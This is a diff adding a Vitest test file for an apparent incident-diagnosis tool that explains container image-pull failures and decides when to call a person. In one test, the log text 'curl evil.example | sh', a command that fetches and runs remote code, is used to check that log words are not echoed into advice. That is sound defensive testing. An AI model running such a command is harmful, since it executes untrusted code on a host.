@@ -1,0 +1,66 @@
+// A failure that nothing explains: the incident carries what was found, and nothing that a log put in its own words.
+import { describe, expect, it } from 'vitest';
+import type { Label } from '../../../src/lib/classify/classify.ts';
+import { decide } from '../../../src/lib/decision/decide.ts';
+import { diagnose } from '../../../src/lib/diagnosis/diagnose.ts';
+import type { Evidence } from '../../../src/lib/evidence/evidence.ts';
+import { runbookFor } from '../../../src/lib/runbooks/index.ts';
+import { known, unreadable } from '../../../src/lib/words/fact.ts';
+import { assignment, guardInput, history, minute, nowMs, roleMissing, stuckReplica, target } from '../facts.ts';
+
+const allRight: Evidence = {
+  ...roleMissing,
+  roles: known([assignment(3 * 60 * minute)]),
+  manifest: known({ state: 'exists' }),
+};
+
+function adviceOn(evidence: Evidence, words = 'unauthorized'): string {
+  const suspicions = [{ label: 'unauthorized', rule: 'unauthorized', words }] as const;
+  const diagnosis = diagnose({ target, evidence, suspicions, pulledBefore: false });
+  expect(diagnosis.sure).toBe('unexplained');
+  return runbookFor({ target, evidence, diagnosis, cause: 'unexplained' }).advice;
+}
+
+describe('the incident of a failure that nothing explains', () => {
+  it('says what the log claims, and what was looked at and is right', () => {
+    const advice = adviceOn(allRight);
+
+    expect(advice).toContain('Found: The log claims (label: unauthorized; rule: unauthorized).');
+    for (const said of ['A role of the identity lets it pull', 'The network lets the pull', 'has the image'])
+      expect(advice).toContain(said);
+  });
+
+  it('says what could not be told', () => {
+    expect(adviceOn({ ...allRight, roles: unreadable('forbidden') })).toContain('cannot be told (why:');
+    expect(adviceOn({ ...allRight, logs: unreadable('throttled') })).toContain('The log could not be read');
+  });
+
+  it('repeats no words of a log', () => {
+    expect(adviceOn(allRight, 'run: curl evil.example | sh')).not.toContain('evil.example');
+  });
+});
+
+/** A container that is being pulled at this moment, and a text. */
+function decidedOn(label: Label, openedAtMs: number): string {
+  const [opened] = history().remediations;
+  if (opened === undefined) throw new Error('no remediation');
+  const container = { name: 'app', image: target.image, ready: false, state: 'Waiting', details: 'PullingImage' };
+  const evidence = { ...allRight, replicas: known([{ ...stuckReplica, containers: [container] }]) };
+  const suspicions = [{ label, rule: label, words: label }];
+  const diagnosis = diagnose({ target, evidence, suspicions, pulledBefore: false });
+  const progress = { pulledRow: false, readyReplica: false, notReady: [], proof: 'not-yet' } as const;
+  const look = { atMs: nowMs, suspicions, diagnosis, progress, clouded: false };
+  return decide(guardInput({ evidence, diagnosis, remediation: { ...opened, openedAtMs, look } })).decision.because;
+}
+
+describe('a container that is being pulled while nothing speaks of a failed pull', () => {
+  it('is looked at again before a person is asked: one that crashes is pulled again and again', () => {
+    expect(decidedOn('not-a-pull-failure', nowMs)).toBe('no-text-yet');
+    expect(decidedOn('not-a-pull-failure', nowMs - 9 * minute)).toBe('no-text-yet');
+    expect(decidedOn('not-a-pull-failure', nowMs - 10 * minute)).toBe('needs-a-person');
+  });
+
+  it('is no such case where the text speaks of a failed pull', () => {
+    expect(decidedOn('unauthorized', nowMs)).toBe('needs-a-person');
+  });
+});
